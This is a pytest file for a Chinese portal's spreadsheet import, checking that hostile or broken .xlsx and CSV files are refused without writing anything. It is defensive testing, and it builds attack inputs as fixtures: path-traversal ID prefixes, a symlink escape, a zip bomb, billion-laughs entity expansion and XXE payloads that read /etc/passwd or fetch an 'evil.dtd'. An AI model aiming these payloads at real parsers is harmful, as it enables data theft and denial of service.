"""portal import of hostile and broken spreadsheets (issue 13): every one is refused with a Chinese message
naming the file, or the row and column, and a hint; the exit status is not 0; no traceback; nothing is written,
inside content/ or outside it. The .xlsx files are made here, part by part (a zip of XML), so that each can
be exactly as broken as an attacker would make it."""

from __future__ import annotations

import io
import os
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
import yaml
from conftest import AS_OF, portal
from hypothesis import given, settings
from hypothesis import strategies as st
from importing import csv_file

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "import"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
T_HEAD = ["序号", "督察反馈问题", "整改目标", "整改措施", "责任单位", "督导单位", "验收销号单位", "整改时限", "整改进展"]
C_HEAD = ["受理编号", "交办问题基本情况", "行政区域", "污染类型", "调查核实情况", "处理和整改情况", "责任追究情况", "办结状态",
          "责令整改（家次）", "罚款金额（万元）"]


# --- making .xlsx files ---------------------------------------------------------------------------

@dataclass
class Cell:
    value: Any = None
    formula: str | None = None  # <f>: a formula, with `cached` as the result Excel saved (None: no result)
    cached: Any = None
    ref: str | None = None  # a position of its own, e.g. "XFD3"
    error: str | None = None  # an error value such as #DIV/0!


def col_letters(n: int) -> str:
    out = ""
    while n:
        n, r = divmod(n - 1, 26)
        out = chr(65 + r) + out
    return out


def cell_xml(ref: str, value: Any) -> str:
    if isinstance(value, Cell):
        ref = value.ref or ref
        if value.error:
            return f'<c r="{ref}" t="e"><v>{escape(value.error)}</v></c>'
        if value.formula is not None:
            f = f"<f>{escape(value.formula)}</f>"
            if value.cached is None:
                return f'<c r="{ref}">{f}</c>'
            if isinstance(value.cached, str):
                return f'<c r="{ref}" t="str">{f}<v>{escape(value.cached)}</v></c>'
            return f'<c r="{ref}">{f}<v>{value.cached}</v></c>'
        value = value.value
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: Any, dimension: str = "", doctype: str = "") -> bytes:
    numbered = rows.items() if isinstance(rows, dict) else enumerate(rows, start=1)
    body = "".join(f'<row r="{n}">' + "".join(cell_xml(f"{col_letters(i)}{n}", v) for i, v in enumerate(cells, start=1))
                   + "</row>" for n, cells in numbered)
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            f'<worksheet xmlns="{NS}">{dim}<sheetData>{body}</sheetData></worksheet>').encode()


def xlsx_bytes(rows: Any, *, dimension: str = "", doctype: str = "", sheet: bytes | None = None,
               shared_strings: bytes | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal .xlsx (as Excel's own parts, no styles) whose first sheet holds ``rows``."""
    rels = f'<Relationship Id="rId1" Type="{DOC_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    types = '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    if shared_strings is not None:
        rels += f'<Relationship Id="rId2" Type="{DOC_REL}/sharedStrings" Target="sharedStrings.xml"/>'
        types += '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                               '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                               '<Default Extension="xml" ContentType="application/xml"/>'
                               '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                               f"{types}</Types>",
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">'
                       f'<Relationship Id="rId1" Type="{DOC_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS}" xmlns:r="{DOC_REL}">'
                           '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">{rels}</Relationships>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, xml in parts.items():
            z.writestr(name, xml)
        z.writestr("xl/worksheets/sheet1.xml", sheet if sheet is not None else sheet_xml(rows, dimension, doctype))
        if shared_strings is not None:
            z.writestr("xl/sharedStrings.xml", shared_strings)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buffer.getvalue()


TASKS = [["测试省整改任务清单"], T_HEAD,
         [11, "甲市东区污水处理厂超负荷运行。", "污水全部收集处理", "扩建污水处理厂", "甲市东区人民政府", "", "", "2023年底前", "达到序时进度"]]


# --- helpers --------------------------------------------------------------------------------------

def tree(root: Path) -> dict[str, tuple[int, int]]:
    """Every file, folder and link below root → (size, mtime)."""
    out = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(folder) / name
            info = p.lstat()
            out[p.relative_to(root).as_posix()] = (info.st_size, info.st_mtime_ns)
    return out


def import_(content: Path, sheet: Path, kind: str, *args: str):  # type: ignore[no-untyped-def]
    extra = ["--batch", "2", "--forwarded-on", "2021-06-15"] if kind == "complaints" and "--batch" not in args else []
    return portal("import", sheet, "--kind", kind, "--content", content, "--as-of", AS_OF, *extra, *args)


def refused(tmp_path: Path, content: Path, sheet: Path, kind: str, *args: str):  # type: ignore[no-untyped-def]
    """Run the import and assert that it failed without writing anything anywhere below tmp_path."""
    before = tree(tmp_path)
    r = import_(content, sheet, kind, *args)
    assert r.code != 0, r.out
    assert "Traceback" not in r.err
    assert tree(tmp_path) == before, "the import wrote a file"
    return r


def complaint(ref: str, **values: Any) -> list[Any]:
    row = dict(zip(C_HEAD, [ref, "反映某厂夜间排放废气。", "甲市", "大气", "", "", "", "已办结", "", ""]))
    row.update({next(h for h in C_HEAD if h.startswith(k)): v for k, v in values.items()})
    return list(row.values())


# --- command-line values that become paths -------------------------------------------------------------

@pytest.mark.parametrize("prefix", ["../../x", "../", "..", "a/b", "T" * 17, "-T", "T_", "任务", "T-\n", "T.", " T", "ABS"])
def test_id_prefix_must_make_ids(mini: Path, tmp_path: Path, prefix: str) -> None:
    if prefix == "ABS":
        prefix = f"{tmp_path}/abs-"  # an absolute path: content/tasks/ joined with it is the path itself
    r = refused(tmp_path, mini, FIXTURES / "tasks.xlsx", "tasks", f"--id-prefix={prefix}")
    assert r.code == 64
    assert "--id-prefix" in r.err and "任务编号前缀只能由字母" in r.err and "提示：例如 --id-prefix T-" in r.err


@pytest.mark.parametrize("prefix", ["R2-", "X" * 16, "2023"])
def test_good_prefixes_still_import(mini: Path, prefix: str) -> None:
    """A guard for the test above (it passed before the fix too): the rule refuses no good prefix."""
    r = import_(mini, FIXTURES / "tasks.xlsx", "tasks", "--id-prefix", prefix)
    assert r.code == 0, r.err
    assert (mini / "tasks" / f"{prefix}11.yaml").is_file()


@pytest.mark.parametrize("batch", ["0", "-1", "10000", "1" + "0" * 30])
def test_batch_number_is_bounded(mini: Path, tmp_path: Path, batch: str) -> None:
    r = refused(tmp_path, mini, FIXTURES / "complaints.xlsx", "complaints", "--batch", batch, "--forwarded-on", "2021-06-15")
    assert r.code == 64 and f"--batch {batch[:40]}" in r.err and "批次须是 1–9999 之间的整数" in r.err


@pytest.mark.parametrize("kind", ["tasks", "complaints"])
def test_a_folder_linked_out_of_content_is_never_written_through(mini: Path, tmp_path: Path, kind: str) -> None:
    folder = "tasks" if kind == "tasks" else "complaints"
    outside = tmp_path / "elsewhere"
    shutil.move(str(mini / folder), str(outside))
    (mini / folder).symlink_to(outside, target_is_directory=True)
    sheet = FIXTURES / ("tasks.xlsx" if kind == "tasks" else "complaints.xlsx")
    r = refused(tmp_path, mini, sheet, kind)
    assert "不在内容文件夹" in r.err and "符号链接" in r.err


# --- sizes -------------------------------------------------------------------------------------------

def test_an_overlong_csv_cell_names_its_row_and_column(mini: Path, tmp_path: Path) -> None:
    """Longer than csv's field limit (131,072): it used to end in a traceback."""
    sheet = csv_file(tmp_path / "long.csv", [C_HEAD, complaint("D2CS202106100001"),
                                              complaint("D2CS202106100002", 交办="测" * 131_073)])
    r = refused(tmp_path, mini, sheet, "complaints")
    assert r.code == 2
    assert "long.csv:3: B列 交办问题基本情况: 单元格有 131,073 个字符，超过上限 100,000" in r.err and "提示：缩短该单元格" in r.err


def test_an_overlong_xlsx_cell_names_its_row_and_column(mini: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "long.xlsx"
    sheet.write_bytes(xlsx_bytes([C_HEAD, complaint("D2CS202106100001", 调查="查" * 100_001)]))
    r = refused(tmp_path, mini, sheet, "complaints")
    assert "long.xlsx:2: E列 调查核实情况: 单元格有 100,001 个字符" in r.err


@pytest.mark.slow  # writes and opens a spreadsheet that would unpack to 272 MB
def test_a_zip_bomb_is_refused_before_anything_is_unpacked(mini: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "bomb.xlsx"
    buffer = io.BytesIO(xlsx_bytes(TASKS))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as z, \
            z.open("xl/media/image1.png", "w", force_zip64=True) as part:
        for _ in range(260):  # 260 MiB of zeros, about 1 MB packed
            part.write(bytes(1 << 20))
    sheet.write_bytes(buffer.getvalue())
    assert sheet.stat().st_size < 2_000_000
    r = refused(tmp_path, mini, sheet, "tasks")
    assert "bomb.xlsx: 解压后共 272," in r.err and "超过上限 268,435,456 字节" in r.err and "提示：" in r.err


@pytest.mark.slow  # imports a sheet whose last row is 1,048,576
def test_a_false_dimension_does_not_make_a_million_empty_cells(mini: Path) -> None:
    """A sheet that claims to be A1:XFD1048576 (16,384 columns) with its one task far down: openpyxl padded
    every row above it to 16,384 cells (5 GB); the import reads the nine columns that hold values."""
    sheet = mini.parent / "dimension.xlsx"
    sheet.write_bytes(xlsx_bytes({1: TASKS[0], 2: TASKS[1], 40_000: TASKS[2]}, dimension="A1:XFD1048576"))
    r = import_(mini, sheet, "tasks")
    assert r.code == 0, r.err
    assert yaml.safe_load((mini / "tasks" / "T-11.yaml").read_text(encoding="utf-8"))["number"] == 11


def test_a_value_far_to_the_right_is_named(mini: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "wide.xlsx"
    sheet.write_bytes(xlsx_bytes([*TASKS[:2], [*TASKS[2], Cell("备注", ref="XFD3")]]))
    r = refused(tmp_path, mini, sheet, "tasks")
    assert "wide.xlsx:3: XFD列: 导入最多读取 100 列（到 CV 列），此处还有内容" in r.err and "提示：删除表格右侧多余的列" in r.err


def test_a_value_far_below_is_refused(mini: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "tall.xlsx"
    sheet.write_bytes(xlsx_bytes({1: TASKS[0], 2: TASKS[1], 3: TASKS[2], 1_048_576: ["尾"]}))
    r = refused(tmp_path, mini, sheet, "tasks")
    assert "tall.xlsx: 工作表超过 50,000 行（第 1,048,576 行有内容）" in r.err and "提示：把表格分成几个文件" in r.err


@pytest.mark.slow  # imports a table of more than 50,000 rows
def test_too_many_csv_rows_are_refused(mini: Path, tmp_path: Path) -> None:
    sheet = csv_file(tmp_path / "tall.csv", [C_HEAD, *([""] * 1 for _ in range(50_000))])
    r = refused(tmp_path, mini, sheet, "complaints")
    assert "tall.csv: 表格超过 50,000 行" in r.err


# --- broken and malicious files --------------------------------------------------------------------

def damaged_member(data: bytes, name: str) -> bytes:
    """The .xlsx with the packed bytes of one part overwritten in the middle (its directory intact)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo(name)
    raw = bytearray(data)
    header = 30 + int.from_bytes(raw[info.header_offset + 26:info.header_offset + 28], "little") \
        + int.from_bytes(raw[info.header_offset + 28:info.header_offset + 30], "little")
    start = info.header_offset + header + info.compress_size // 3
    raw[start:start + 16] = b"\xff" * 16
    return bytes(raw)


SHEETS = {
    "not-a-zip": (b"this is not a spreadsheet\n" * 20, "不是有效的 .xlsx 文件"),
    "empty": (b"", "不是有效的 .xlsx 文件"),
    "html": (b"<html><body><table><tr><td>1</td></tr></table></body></html>", "不是有效的 .xlsx 文件"),
    "cut-in-half": ((FIXTURES / "tasks.xlsx").read_bytes()[:(FIXTURES / "tasks.xlsx").stat().st_size // 2], "不是有效的 .xlsx 文件"),
    "damaged-sheet": (damaged_member(xlsx_bytes(TASKS * 30), "xl/worksheets/sheet1.xml"), "内部文件 xl/worksheets/sheet1.xml"),
    "sheet-not-xml": (xlsx_bytes([], sheet=b"<worksheet><sheetData><row>"), "不是有效的 XML"),
}


@pytest.mark.parametrize("case", sorted(SHEETS))
def test_a_damaged_xlsx_is_refused(mini: Path, tmp_path: Path, case: str) -> None:
    data, expected = SHEETS[case]
    sheet = tmp_path / f"{case}.xlsx"
    sheet.write_bytes(data)
    r = refused(tmp_path, mini, sheet, "tasks")
    assert f"{case}.xlsx: " in r.err and expected in r.err and "提示：在 Excel 或 WPS 中打开此文件，另存为" in r.err
    assert f"{case}.xlsx: 无法导入，未写入任何文件。" in r.err


LAUGHS = ('<!DOCTYPE worksheet [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>")
ENTITIES = {
    "laughs-in-sheet": xlsx_bytes([T_HEAD, [11, "&j;"]], doctype=LAUGHS),
    "external-file": xlsx_bytes([], sheet=(f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                           f'<worksheet xmlns="{NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is>'
                                           "</c></row></sheetData></worksheet>").encode()),
    "laughs-in-strings": xlsx_bytes([], sheet=sheet_xml([]), shared_strings=(
        f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="{NS}"><si><t>&j;</t></si></sst>').encode()),
    "parameter-entity": xlsx_bytes([], sheet=(b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY % p SYSTEM '
                                              b'"http://127.0.0.1:9/evil.dtd"> %p;]><worksheet/>')),
    "entity-in-workbook": xlsx_bytes(TASKS, extra={"docProps/core.xml": f'<?xml version="1.0"?>{LAUGHS}<cp x="&j;"/>'.encode()}),
}


@pytest.mark.parametrize("case", sorted(ENTITIES))
def test_xml_entities_and_dtds_are_refused(mini: Path, tmp_path: Path, case: str) -> None:
    sheet = tmp_path / f"{case}.xlsx"
    sheet.write_bytes(ENTITIES[case])
    r = refused(tmp_path, mini, sheet, "tasks")
    assert f"{case}.xlsx: 内部文件 " in r.err and "含有 DTD" in r.err and "Excel 从不写入" in r.err
    assert "root:" not in r.err


def test_openpyxl_reads_xml_through_defusedxml() -> None:
    """Defence in depth: with defusedxml installed openpyxl parses every part with it (a dependency)."""
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True


# --- cell values ------------------------------------------------------------------------------------

def test_a_formula_without_a_saved_result_and_error_values_are_refused(mini: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "formulas.xlsx"
    row = list(TASKS[2])
    row[4] = Cell(formula='CONCATENATE("甲市", "人民政府")')  # written by a program that does not calculate
    row[2] = Cell(error="#DIV/0!")
    row[3] = Cell(formula='IF(1>2, "x", "")', cached="")  # a saved result that is empty: read as empty
    sheet.write_bytes(xlsx_bytes([*TASKS[:2], row]))
    r = refused(tmp_path, mini, sheet, "tasks")
    assert "D列" not in r.err
    assert "formulas.xlsx:3: E列 责任单位: 单元格是公式（=CONCATENATE(\"甲市\", \"人民政府\")），但文件中没有保存公式的计算结果" in r.err
    assert "提示：在 Excel 或 WPS 中打开此文件并保存" in r.err
    assert "formulas.xlsx:3: C列 整改目标: 单元格是 Excel 错误值 #DIV/0!" in r.err


NUMBERS = ["²", "①", "٣", "Ⅻ", "1" * 30, "0", "10000", "-1", "1e3", "3.5", "十一", "1" * 5000]


def test_task_numbers_are_ascii_digits_within_bounds(mini: Path, tmp_path: Path) -> None:
    rows = [T_HEAD, *([n, f"问题{i}。", "", "", "甲市人民政府", "", "", "2023年底前", ""] for i, n in enumerate(NUMBERS))]
    sheet = csv_file(tmp_path / "numbers.csv", rows)
    r = refused(tmp_path, mini, sheet, "tasks")
    assert r.code == 2
    for row, value in enumerate(NUMBERS, start=2):
        assert f"numbers.csv:{row}: A列 序号: “" in r.err or f"numbers.csv:{row}: A列 序号: {value[:40]}" in r.err, value[:40]
    assert "numbers.csv:7: A列 序号: 0 超出允许的范围（1–9,999）" in r.err
    assert "numbers.csv:3: A列 序号: “①”不是整数（整数只能用数字 0-9 书写）" in r.err
    assert r.err.count("\n") < 60  # 5,000 digits are not printed in full


def test_full_width_digits_are_read_as_numbers(mini: Path, tmp_path: Path) -> None:
    """As a Chinese IME types them: they used to reach the YAML as text (责令整改 '３') and fail check."""
    sheet = csv_file(tmp_path / "wide.csv", [T_HEAD, ["１２", "问题。", "", "", "甲市人民政府", "", "", "２０２３年底前", ""]])
    r = import_(mini, sheet, "tasks")
    assert r.code == 0, r.err
    task = yaml.safe_load((mini / "tasks" / "T-12.yaml").read_text(encoding="utf-8"))
    assert task["number"] == 12 and task["deadline"] == 2023
    sheet = csv_file(tmp_path / "wide.csv", [C_HEAD, complaint("D2CS202106100001", 责令="３", 罚款="８．５")])
    r = import_(mini, sheet, "complaints")
    assert r.code == 0, r.err
    (written,) = yaml.safe_load((mini / "complaints" / "2.yaml").read_text(encoding="utf-8"))["complaints"]
    assert written["penalties"] == {"orders": 3, "fines_wan_yuan": 8.5}


def test_penalties_and_deadlines_are_bounded(mini: Path, tmp_path: Path) -> None:
    rows = [C_HEAD,
            complaint("D2CS202106100001", 责令="²"),
            complaint("D2CS202106100002", 责令="٣"),
            complaint("D2CS202106100003", 责令="9" * 30),
            complaint("D2CS202106100004", 罚款="1e30"),
            complaint("D2CS202106100005", 罚款="99999999999"),
            complaint("D2CS202106100006", 罚款="0.1234567"),
            complaint("D2CS202106100007", 罚款="nan"),
            complaint("D" + "2" * 70)]
    r = refused(tmp_path, mini, csv_file(tmp_path / "penalties.csv", rows), "complaints")
    for row, column in [(2, "I列 责令整改（家次）"), (3, "I列 责令整改（家次）"), (4, "I列 责令整改（家次）"), (5, "J列 罚款金额（万元）"),
                        (6, "J列 罚款金额（万元）"), (7, "J列 罚款金额（万元）"), (8, "J列 罚款金额（万元）"), (9, "A列 受理编号")]:
        assert f"penalties.csv:{row}: {column}: " in r.err, (row, column)
    assert "penalties.csv:4: I列 责令整改（家次）: " + "9" * 30 + " 超出允许的范围（0–1,000,000）" in r.err
    assert "penalties.csv:9: A列 受理编号: 受理编号有 71 个字符，超过上限 64" in r.err
    tasks = [T_HEAD, [11, "问题。", "", "", "甲市人民政府", "", "", "9999-12-31", ""],
             [12, "问题。", "", "", "甲市人民政府", "", "", "1900年底前", ""],
             [13, "问题。", "", "", "甲市人民政府", "", "", "0000年6月底前", ""]]
    r = refused(tmp_path, mini, csv_file(tmp_path / "deadlines.csv", tasks), "tasks")
    assert "deadlines.csv:2: H列 整改时限: 9999 年不在 1990–2100 年之间" in r.err
    assert "deadlines.csv:3: H列 整改时限: 1900 年不在 1990–2100 年之间" in r.err
    assert "deadlines.csv:4: H列 整改时限: " in r.err


def test_problems_found_by_check_lead_back_to_row_and_column(mini: Path, tmp_path: Path) -> None:
    """Rows that pass the import's own reading but break a content rule: the message names the sheet's
    row and column (and the file the import would have written)."""
    rows = [C_HEAD, complaint("D2CS202106100001"), complaint("D2CS202106100002", 交办="举报人电话13812345678，请回电。")]
    r = refused(tmp_path, mini, csv_file(tmp_path / "pii.csv", rows), "complaints")
    assert r.code == 1
    assert "pii.csv:3: B列 交办问题基本情况: 导入后 portal check 发现：" in r.err and "complaints/2.yaml:" in r.err
    tasks = [T_HEAD, [11, "问题。", "", "", "甲市人民政府", "", "", "2020-01-01", ""]]  # before the plan was approved
    r = refused(tmp_path, mini, csv_file(tmp_path / "early.csv", tasks), "tasks")
    assert "early.csv:2: H列 整改时限: 导入后 portal check 发现：" in r.err


CONTROL = ["\x85", "\u2028", "\u2029", "\x7f", "\x9f", "\ufffe", "\ufeff", "\x00", "\x1b", "\u202e"]


@pytest.mark.parametrize("char", CONTROL, ids=[f"U+{ord(c):04X}" for c in CONTROL])
def test_any_character_in_a_cell_is_imported_exactly_or_refused_at_its_cell(mini: Path, tmp_path: Path, char: str) -> None:
    summary = f"反映某厂{char}夜间排放废气。"
    sheet = csv_file(tmp_path / "chars.csv", [C_HEAD, complaint("D2CS202106100001", 交办=summary)])
    r = import_(mini, sheet, "complaints")
    assert "Traceback" not in r.err
    if r.code == 0:
        (written,) = yaml.safe_load((mini / "complaints" / "2.yaml").read_text(encoding="utf-8"))["complaints"]
        assert written["summary"] == summary
        assert portal("check", "--content", mini, "--as-of", AS_OF).code == 0
    else:
        assert "chars.csv:2: B列 交办问题基本情况: " in r.err
        assert not (mini / "complaints" / "2.yaml").exists()


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=40))
def test_every_text_is_written_as_yaml_that_reads_back_exactly(value: str) -> None:
    from generator.commands.import_items import q
    from generator.load.yamlio import load_yaml

    assert load_yaml(f"k: {q(value)}\n")["k"] == value
    assert "\n" not in q(value)


def test_a_date_cell_beyond_excel_dates_names_its_cell(mini: Path, tmp_path: Path) -> None:
    """A number formatted as a date that no calendar holds: openpyxl only warned and read it as #VALUE!."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    for row in TASKS:
        ws.append(row)
    ws["H3"] = 1e12
    ws["H3"].number_format = "yyyy-mm-dd"
    sheet = tmp_path / "dates.xlsx"
    book.save(sheet)
    r = refused(tmp_path, mini, sheet, "tasks")
    assert "dates.xlsx:3: H列 整改时限: 日期超出 Excel 能表示的范围" in r.err and "warning" not in r.err.lower()
